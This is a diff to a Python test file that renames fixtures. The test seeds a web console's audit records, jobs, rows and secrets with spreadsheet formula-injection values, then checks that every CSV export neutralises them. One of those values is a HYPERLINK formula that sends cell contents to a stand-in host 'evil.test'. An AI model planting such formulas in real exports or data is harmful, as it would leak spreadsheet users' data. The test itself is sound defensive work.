@@ -18,11 +18,11 @@ from console.access.models import AuditRecord, ReadCount
 from console.connections import clients
 from console.jobs.models import Job, Row, Secret
 from console.ui.csv import FORMULA
+from tests.populated import PopulatedTeam, addresses, fleet_copied, populated, seeded
 from tests.running import CHECKOUT
 from tests.test_odd_answers import Damaged, each
-from tests.world import World, addresses, fleet_copied, seeded, world
 
-__all__ = ["fleet_copied", "seeded", "world"]  # fixtures
+__all__ = ["fleet_copied", "populated", "seeded"]  # fixtures
 
 SignIn = Callable[[str], Client]
 EVIL = '=HYPERLINK("evil.test?"&A1)'
@@ -52,25 +52,25 @@ def runs(cell: str) -> bool:
 
 
 @pytest.fixture
-def hostile(world: World, monkeypatch: pytest.MonkeyPatch, settings: Any) -> World:
-    """The world with a formula in every text that people, devices or the cloud could have put there."""
+def hostile(populated: PopulatedTeam, monkeypatch: pytest.MonkeyPatch, settings: Any) -> PopulatedTeam:
+    """The populated with a formula in every text that people, devices or the cloud could have put there."""
     settings.CLOUD_CACHE_SECONDS = 0
     kept = {"True", "False", "r"}
 
     def worse(value: Any) -> Any:
         return EVIL if isinstance(value, str) and value not in kept else value
 
-    damaged = Damaged(world.upstream, lambda answer: each(answer, worse))
+    damaged = Damaged(populated.upstream, lambda answer: each(answer, worse))
     monkeypatch.setattr(clients, "transport_for", lambda connection: damaged)
     clients.forget()
-    team = world.cast.team
+    team = populated.org.team
     AuditRecord.objects.create(
         team=team, operation=EVIL, actor_label=EVIL, target=EVIL, message=EVIL, code="=1+1", request_id="@x"
     )
     ReadCount.objects.create(
         team=team, day="2026-01-01", actor_label=EVIL, connection=EVIL, operation=EVIL, count=1
     )
-    job = Job.objects.get(pk=world.things["jobs"]["job"])
+    job = Job.objects.get(pk=populated.things["jobs"]["job"])
     job.params = {**job.params, "product_name": EVIL, "filename": EVIL}
     job.state = Job.State.PARTIAL
     job.save()
@@ -81,20 +81,20 @@ def hostile(world: World, monkeypatch: pytest.MonkeyPatch, settings: Any) -> Wor
     raw = {"findings": [["quotes", "", ""]], "raw": f"{EVIL},＝1,+1,-1,@x\r\n"}
     Row.objects.create(job=job, number=4, name="", state="skipped", extra=raw)
     Secret.objects.create(job=job, name=EVIL, value=EVIL, expires_at=timezone.now() + timedelta(hours=1))
-    return world
+    return populated
 
 
-def files(world: World, client: Client) -> Iterator[tuple[str, str]]:
+def files(populated: PopulatedTeam, client: Client) -> Iterator[tuple[str, str]]:
     """What every address that gives a CSV file gives, by the address's name."""
     for name in addresses():
-        url = world.url(name)
-        key = world.things["products"]["key"]
+        url = populated.url(name)
+        key = populated.things["products"]["key"]
         answer = client.get(f"{url}?format=csv&product={key}")
         if answer.get("Content-Type", "").startswith("text/csv"):
             yield name, answer.getvalue().decode("utf-8-sig")
 
 
-def test_no_export_holds_a_cell_that_a_spreadsheet_would_run(hostile: World, sign_in: SignIn) -> None:
+def test_no_export_holds_a_cell_that_a_spreadsheet_would_run(hostile: PopulatedTeam, sign_in: SignIn) -> None:
     found, wrong, neutralised = set(), [], set()
     for name, text in files(hostile, sign_in("owner")):
         found.add(name)
